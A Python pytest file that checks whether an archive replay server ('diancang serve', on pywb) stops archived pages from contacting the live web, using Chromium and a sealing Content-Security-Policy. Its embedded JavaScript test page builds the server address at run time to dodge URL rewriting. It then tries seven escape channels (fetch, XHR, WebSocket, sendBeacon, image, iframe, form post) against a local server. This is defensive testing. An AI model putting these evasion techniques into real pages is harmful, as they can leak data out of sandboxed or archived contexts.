"""The sealed replay, judged by a real browser: nothing archived reaches the live web.

An archived page (a WARC this test writes) tries every way out it can: fetch, XHR, a
WebSocket, ``sendBeacon``, an image, an iframe and a form post, all to a live server on
another 127.0.0.1 port, with the address built at run time so no rewriting can catch it.
Replayed by the real ``diancang serve`` in every pywb mode, loaded as the top document, the
live server must see nothing.  The same page served without replay (the control) must reach
it by every one of those ways, so the test would see a leak if there were one.
"""

from __future__ import annotations

import http.server
import os
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.replay.archive import TIMESTAMP, public_collection
from tests.support import fetch, replay_server

pytestmark = pytest.mark.slow

CHROMIUM = Path(os.environ.get("DIANCANG_TEST_CHROMIUM", "/usr/bin/chromium"))
LAUNCH_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking",
               "--disable-component-update"]
ARCHIVED = "http://archived.test/attack.html"
WAYS = ("fetch", "xhr", "ws", "beacon", "img", "iframe", "form")
# "" is pywb's framed top page (the archived page runs in its mp_ frame)
MODES = ("", "mp_", "id_", "if_", "fr_", "bn_", "js_", "cs_", "oe_", "im_", "sw_", "wkrf_")

ATTACK = """<!doctype html>
<html><head><meta charset="utf-8"><title>attack</title></head>
<body><p>escape attempts</p>
<iframe name="sink" id="sink"></iframe>
<form id="f" method="post" target="sink"><input name="a" value="b"></form>
<script>
(function () {
  var host = ['127', '0', '0', '1'].join('.') + ':' + '@PORT@';
  var live = 'ht' + 'tp://' + host, tag = '@TAG@', pending = [];
  function settle(p) {
    pending.push(Promise.race([p, new Promise(function (r) { setTimeout(r, 3000); })]));
  }
  function attempt(way, start) {
    settle(new Promise(function (r) { try { start(live + '/' + way + '?t=' + tag, r); }
                                      catch (e) { r(); } }));
  }
  attempt('fetch', function (u, r) {
    fetch(u, {mode: 'no-cors', method: 'POST', body: 'x'}).then(r, r); });
  attempt('xhr', function (u, r) {
    var x = new XMLHttpRequest(); x.onloadend = r; x.open('GET', u); x.send(); });
  attempt('ws', function (u, r) {
    var w = new WebSocket('w' + 's://' + host + '/ws?t=' + tag);
    w.onerror = r; w.onclose = r; w.onopen = r; });
  attempt('beacon', function (u, r) { navigator.sendBeacon(u, 'x'); r(); });
  attempt('img', function (u, r) {
    var i = new Image(); i.onload = r; i.onerror = r; i.src = u; });
  attempt('iframe', function (u, r) {
    var f = document.createElement('iframe'); f.onload = r; f.src = u;
    document.body.appendChild(f); });
  attempt('form', function (u, r) {
    document.getElementById('sink').onload = r;
    var f = document.getElementById('f'); f.action = u; f.submit(); });
  Promise.all(pending).then(function () { window.__escapeTried = true; });
})();
</script></body></html>
"""


class Counting(http.server.ThreadingHTTPServer):
    """A live server that records every request it gets."""

    daemon_threads = True

    def __init__(self) -> None:
        self.requests: list[str] = []
        self.lock = threading.Lock()
        super().__init__(("127.0.0.1", 0), _Recorder)

    def seen(self, tag: str) -> set[str]:
        with self.lock:
            return {path.split("?")[0].strip("/") for path in self.requests
                    if path.endswith("t=" + tag)}


class _Recorder(http.server.BaseHTTPRequestHandler):
    server: Counting

    def _any(self) -> None:
        with self.server.lock:
            self.server.requests.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")

    do_GET = do_POST = _any

    def log_message(self, format: str, *args: object) -> None:
        pass


class _Control(http.server.BaseHTTPRequestHandler):
    """Serves the attack page as the live web would: no replay, no CSP."""

    page = b""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(self.page)))
        self.end_headers()
        self.wfile.write(self.page)

    def log_message(self, format: str, *args: object) -> None:
        pass


def _attack(port: int, tag: str) -> bytes:
    return ATTACK.replace("@PORT@", str(port)).replace("@TAG@", tag).encode()


def _serve(server: http.server.HTTPServer) -> threading.Thread:
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    return thread


@pytest.fixture(scope="module")
def live() -> Iterator[Counting]:
    server = Counting()
    _serve(server)
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def replay(tmp_path_factory: pytest.TempPathFactory, live: Counting) -> Iterator[str]:
    home = tmp_path_factory.mktemp("sealed-home")
    public_collection(home, "sealed", {ARCHIVED: _attack(live.server_address[1], "sealed")})
    with replay_server(home) as base:
        yield base.rstrip("/")


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    if not CHROMIUM.exists():
        pytest.skip(f"no Chromium at {CHROMIUM} (.ci/run installs Debian's chromium)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), headless=True,
                                              args=LAUNCH_ARGS)
        yield chromium
        chromium.close()


def _tried(page: object) -> bool:
    """The attack script ran to its end in some frame of the page."""
    return any(frame.evaluate("window.__escapeTried === true")  # type: ignore[attr-defined]
               for frame in page.frames)  # type: ignore[attr-defined]


@pytest.mark.parametrize("mode", MODES)
def test_every_mode_carries_the_sealing_csp(replay: str, mode: str) -> None:
    status, headers, body = fetch(f"{replay}/sealed/{TIMESTAMP}{mode}/{ARCHIVED}")
    assert status == 200
    assert b"escape attempts" in body or mode == ""     # "" is the frame around mp_
    policies = [v for k, v in headers.items() if k.lower() == "content-security-policy"]
    assert len(policies) == 1
    assert "ws:" not in policies[0] and "default-src 'self'" in policies[0]


def test_an_archived_page_reaches_no_live_server_in_any_mode(
        replay: str, live: Counting, browser: object) -> None:
    context = browser.new_context()  # type: ignore[attr-defined]
    page = context.new_page()
    for mode in MODES:
        page.goto(f"{replay}/sealed/{TIMESTAMP}{mode}/{ARCHIVED}", wait_until="load")
        for _ in range(100):
            if _tried(page):
                break
            page.wait_for_timeout(100)
        assert _tried(page), f"the archived page's script did not run in mode {mode!r}"
        page.goto("about:blank")

    # Chromium may open a bare connection ahead of a frame or form navigation that CSP then
    # refuses (a preconnect; no byte of a request is sent): requests are what must not come
    assert live.requests == []
    # the control: the same page off the live web reaches the server every way
    _Control.page = _attack(live.server_address[1], "control")
    control = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Control)
    _serve(control)
    try:
        page.goto(f"http://127.0.0.1:{control.server_address[1]}/attack.html")
        for _ in range(200):
            if live.seen("control") >= set(WAYS):
                break
            page.wait_for_timeout(100)
        assert live.seen("control") == set(WAYS)
    finally:
        control.shutdown()
        control.server_close()
        context.close()
    assert live.seen("sealed") == set()
    assert [p for p in live.requests if not p.endswith("t=control")] == []
